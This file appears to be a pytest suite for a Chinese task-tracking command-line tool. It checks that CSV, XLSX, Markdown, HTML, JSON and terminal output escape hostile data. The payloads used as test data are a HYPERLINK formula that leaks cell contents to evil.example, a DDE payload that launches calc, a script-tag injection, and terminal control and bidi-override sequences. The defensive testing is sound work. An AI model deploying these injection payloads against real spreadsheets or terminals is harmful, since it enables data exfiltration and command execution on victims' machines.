"""What comes from the data never acts on its reader: no live formula in a spreadsheet, no markup
in Markdown or HTML, no control sequence reaching a terminal.

The payloads sit where clerks type (notes, stages, who reported) and where a notice file is edited
(task and metric names, target texts, unit names), and every output of each is checked.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml

from minshi.files import escape_controls
from tests.conftest import BUNDLED, Invoke

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SCRIPT = "<script>alert(1)</script>"
CONTROL = "\x1b[31m红字\x1b[0m\x07响铃\r回车\x9b2J\u202e倒写"
# click.echo drops ANSI sequences (ESC …) itself when output is not a terminal, as in these tests;
# the bell, carriage return, C1 CSI and bidi override in the same payloads are not dropped, and
# show whether minshi escaped the text
RAW_CONTROL = ("\x1b", "\x07", "\r", "\x9b", "\u202e")

UNIT = "区住房城乡建委"
HOSTILE_UNIT = "@区住建委(A1)"
TASK_NAME = FORMULAS[0]
METRIC_NAME = "-2+3老旧小区" + CONTROL
TARGET_TEXT = f"+新开工改造老旧小区95个 {SCRIPT} | 一 | 二 |"
TASK5_NAME = "城市绿荫" + CONTROL


@pytest.fixture
def hostile_notice(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The bundled notice with formulas, markup and control characters in its names."""
    data = yaml.safe_load(BUNDLED.read_text(encoding="utf-8"))
    for unit in data.get("units", []):
        if unit["name"] == UNIT:
            unit["name"] = HOSTILE_UNIT
    for task in data["tasks"]:
        task["lead"] = [HOSTILE_UNIT if u == UNIT else u for u in task["lead"]]
        coop = task.get("cooperating", [])
        task["cooperating"] = [HOSTILE_UNIT if u == UNIT else u for u in coop]
        if task["id"] == 16:
            task["name"] = TASK_NAME
            task["target_text"] = TARGET_TEXT
            task["metrics"][0]["name"] = METRIC_NAME
        if task["id"] == 5:
            task["name"] = TASK5_NAME
    path = isolated / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    monkeypatch.setenv("MINSHI_DATA", str(path))
    return path


@pytest.fixture
def hostile_journal(cli: Invoke, hostile_notice: Path) -> list[str]:
    """Reports whose note, stage and reporter are formulas, markup or control sequences."""
    updates = [
        ["16", "--value", "40", "--date", "2024-03-01", "--note", FORMULAS[0], "--by", "+1"],
        ["16", "--value", "41", "--date", "2024-03-02", "--note", FORMULAS[1], "--by", "@x"],
        ["16", "--value", "42", "--date", "2024-03-03", "--note", SCRIPT, "--by", "-2+3"],
        # (a name holding control characters is refused: tests/test_hostile_input.py)
        ["16", "--value", "43", "--date", "2024-03-04", "--note", CONTROL, "--by", "控制"],
        ["5", "--value", "1", "--date", "2024-03-05", "--note", FORMULAS[4], "--by", "| a |"],
        ["20", "--metric", "其芳小学", "--stage", FORMULAS[2], "--date", "2024-03-06"],
        ["20", "--metric", "其芳小学", "--stage", SCRIPT, "--date", "2024-03-07"],
        ["20", "--metric", "其芳小学", "--stage", CONTROL, "--date", "2024-03-08"],
    ]
    for args in updates:
        result = cli("progress", "update", *args)
        assert result.exit_code == 0, (args, result.stderr)
    return [*FORMULAS, SCRIPT, CONTROL]


# ---------------------------------------------------------------------------------------------
# CSV


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_live_formula(text: str) -> None:
    cells = csv_cells(text)
    for cell in cells:
        if cell and cell[0] in "=+-@\t\r":
            # a negative number is a number, not a formula
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell


CSV_COMMANDS = [
    ["list", "-f", "csv"],
    ["show", "16", "-f", "csv"],
    ["overdue", "--as-of", "2025-01-15", "-f", "csv"],
    ["incomplete", "--as-of", "2024-06-30", "-f", "csv"],
    ["units", "-f", "csv"],
    ["progress", "log", "-f", "csv"],
    ["progress", "export"],
    ["report", "--as-of", "2024-06-30", "-f", "csv"],
]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=[" ".join(a) for a in CSV_COMMANDS])
def test_csv_never_holds_a_live_formula(
    cli: Invoke, hostile_journal: list[str], args: list[str]
) -> None:
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    assert_no_live_formula(result.stdout)


def test_csv_keeps_the_text_readable_after_the_apostrophe(
    cli: Invoke, hostile_journal: list[str]
) -> None:
    cells = set(csv_cells(cli("list", "-f", "csv").stdout))
    assert "'" + TASK_NAME in cells
    assert any(c.startswith("'" + HOSTILE_UNIT) for c in cells)
    log = set(csv_cells(cli("progress", "log", "-f", "csv").stdout))
    assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "'+1", "'@x", "'-2+3"} <= log
    overdue = set(csv_cells(cli("overdue", "--as-of", "2025-01-15", "-f", "csv").stdout))
    assert "'" + TASK_NAME in overdue


def test_exported_formulas_come_back_as_the_same_text(
    cli: Invoke, hostile_journal: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "journal.csv"
    assert cli("progress", "export", "-o", str(out)).exit_code == 0
    notes = [e["note"] for e in json.loads(cli("progress", "log", "-f", "json").stdout)]
    monkeypatch.setenv("MINSHI_DB", str(tmp_path / "copy.db"))
    assert cli("progress", "import", str(out)).exit_code == 0
    copied = [e["note"] for e in json.loads(cli("progress", "log", "-f", "json").stdout)]
    # control characters travel as what they are written out as (\x1b): a CSV file, shown on a
    # terminal, never carries a live escape sequence
    assert sorted(copied) == sorted(escape_controls(n, keep="\n\t") for n in notes)
    assert FORMULAS[0] in copied  # the apostrophe is taken off again


def report_available(cli: Invoke) -> bool:
    return cli("report", "--help").exit_code == 0


def test_xlsx_report_holds_no_formula_from_the_data(
    cli: Invoke, hostile_journal: list[str], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "report.xlsx"
    result = cli("report", "--as-of", "2024-06-30", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    book = load_workbook(out)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                for payload in (*FORMULAS, HOSTILE_UNIT, TASK_NAME):
                    if payload.strip() in cell.value:
                        seen.append(cell.value)
                        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "f":
                    # the report's own formulas (sums) only, never text from the data
                    assert "HYPERLINK" not in cell.value and "cmd|" not in cell.value, cell.value
    assert any(TASK_NAME in v for v in seen)  # the name is there, as text


# ---------------------------------------------------------------------------------------------
# Markdown and HTML


def markdown_rows_are_intact(text: str) -> None:
    """Every table row has as many cells as its header: a | in the data is escaped."""
    widths: list[int] = []
    for line in text.splitlines():
        if line.startswith("|"):
            widths.append(len(re.findall(r"(?<!\\)\|", line)))
        elif widths:
            assert len(set(widths)) == 1, text
            widths = []
    assert len(set(widths)) <= 1, text


MARKDOWN_COMMANDS = [
    ["list", "-f", "markdown"],
    ["show", "16", "-f", "markdown"],
    ["overdue", "--as-of", "2025-01-15", "-f", "markdown"],
    ["units", "-f", "markdown"],
    ["progress", "log", "-f", "markdown"],
    ["report", "--as-of", "2024-06-30", "-f", "markdown"],
]


@pytest.mark.parametrize("args", MARKDOWN_COMMANDS, ids=[" ".join(a) for a in MARKDOWN_COMMANDS])
def test_markdown_never_holds_markup_from_the_data(
    cli: Invoke, hostile_journal: list[str], args: list[str]
) -> None:
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert "<script" not in out.lower()
    for ch in RAW_CONTROL:
        assert ch not in out, (ch, out)
    markdown_rows_are_intact(out)


def test_markdown_shows_the_markup_as_text(cli: Invoke, hostile_journal: list[str]) -> None:
    log = cli("progress", "log", "-f", "markdown").stdout
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in log
    assert "\\| a \\|" in log
    listing = cli("list", "-f", "markdown").stdout
    assert "&lt;script&gt;" in listing


def test_html_report_never_holds_markup_from_the_data(
    cli: Invoke, hostile_journal: list[str]
) -> None:
    result = cli("report", "--as-of", "2024-06-30", "-f", "html")
    assert result.exit_code == 0, result.stderr
    assert SCRIPT not in result.stdout
    assert "alert(1)" not in re.sub(r"&lt;script&gt;alert\(1\)&lt;/script&gt;", "", result.stdout)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout
    for ch in RAW_CONTROL:
        assert ch not in result.stdout, repr(ch)


# ---------------------------------------------------------------------------------------------
# The terminal


TABLE_COMMANDS = [
    ["list"],
    ["list", "--lead", HOSTILE_UNIT],
    ["show", "16"],
    ["show", "5"],
    ["overdue", "--as-of", "2025-01-15"],
    ["incomplete", "--as-of", "2024-06-30"],
    ["units"],
    ["progress", "log"],
    ["progress", "log", "16"],
    ["report", "--as-of", "2024-06-30"],
]


@pytest.mark.parametrize("args", TABLE_COMMANDS, ids=[" ".join(a) for a in TABLE_COMMANDS])
def test_tables_never_echo_control_characters(
    cli: Invoke, hostile_journal: list[str], args: list[str]
) -> None:
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    for ch in RAW_CONTROL:
        assert ch not in result.stdout + result.stderr, (ch, result.stdout)


def test_control_characters_are_shown_escaped(cli: Invoke, hostile_journal: list[str]) -> None:
    out = cli("progress", "log").stdout
    assert "\\x1b[31m红字\\x1b[0m\\x07响铃\\x0d回车" in out.replace("\n", "")
    assert "\\x1b[31m" in cli("show", "5").stdout


def test_json_escapes_control_characters(cli: Invoke, hostile_journal: list[str]) -> None:
    out = cli("progress", "log", "-f", "json").stdout
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert CONTROL in [e["note"] for e in json.loads(out)]  # the data itself is kept whole


def test_the_update_message_never_echoes_control_characters(
    cli: Invoke, hostile_notice: Path
) -> None:
    result = cli("progress", "update", "16", "--value", "5", "--date", "2024-03-01")
    assert result.exit_code == 0, result.stderr
    for ch in RAW_CONTROL:
        assert ch not in result.stdout + result.stderr, (ch, result.stdout)


def test_the_undo_message_never_echoes_control_characters(
    cli: Invoke, hostile_journal: list[str]
) -> None:
    # entry 8 is the stage given as control sequences
    for args in (["progress", "undo", "--dry-run"], ["progress", "undo"]):
        result = cli(*args)
        assert result.exit_code == 0, result.stderr
        assert "back entry 8" in result.stdout
        for ch in RAW_CONTROL:
            assert ch not in result.stdout + result.stderr, (args, ch, result.stdout)


ERRORS = [
    ["list", "--lead", "\x1b[2J清屏\x07"],
    ["show", "\x1b]0;标题\x07"],
    ["progress", "update", "16", "--value", "\x1b[31m5"],
    ["progress", "update", "16", "--value", "5", "--date", "\r2024-02-30"],
    ["progress", "update", "16", "--metric", "\x9b2J"],
    ["progress", "update", "16", "--value", "5", "--notice", "\u202eabc"],
    ["list", "--status", "\x1b[5m"],
    ["overdue", "--as-of", "\x07"],
]


@pytest.mark.parametrize("args", ERRORS, ids=[repr(a[-1]) for a in ERRORS])
def test_error_messages_never_echo_control_characters(
    cli: Invoke, hostile_notice: Path, args: list[str]
) -> None:
    result = cli(*args)
    assert result.exit_code == 2
    assert result.stderr.startswith("minshi: error: ")
    for ch in RAW_CONTROL:
        assert ch not in result.stderr, (ch, result.stderr)


def test_an_error_naming_data_from_the_notice_is_escaped_too(
    cli: Invoke, hostile_notice: Path
) -> None:
    # the list of metrics in this message comes from the notice file
    result = cli("progress", "update", "16", "--metric", "没有")
    assert result.exit_code == 2
    assert "-2+3老旧小区" in result.stderr or "老旧小区" in result.stderr
    for ch in RAW_CONTROL:
        assert ch not in result.stderr


def test_a_hostile_key_in_a_broken_notice_is_escaped_in_the_error(
    cli: Invoke, tmp_path: Path
) -> None:
    path = tmp_path / "notice.yaml"
    path.write_text('notice: {"\\e[2J": 1, "\\e[2J": 2}\n', encoding="utf-8")
    result = cli("validate", str(path))
    assert result.exit_code == 2
    assert "duplicate key '\\x1b[2J'" in result.stderr
    assert "\x1b" not in result.stderr
